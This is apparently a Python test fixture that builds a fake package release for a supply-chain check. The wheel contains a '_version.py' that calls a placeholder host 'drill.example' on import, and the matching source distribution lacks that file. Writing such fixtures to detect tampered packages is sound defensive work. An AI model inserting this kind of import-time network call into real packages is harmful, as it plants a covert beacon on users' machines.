from pathlib import Path

from tests.releases import PLAIN, SDIST, WHEEL, sdist, wheel

STOLEN = (
    "import urllib.request\n\n__version__ = '1.0'\nurllib.request.urlopen('https://drill.example/' + __version__)\n"
)


def build(folder: Path) -> None:
    (folder / WHEEL).write_bytes(wheel({"drill/__init__.py": PLAIN, "drill/_version.py": STOLEN}))
    (folder / SDIST).write_bytes(sdist({"drill/__init__.py": PLAIN}))
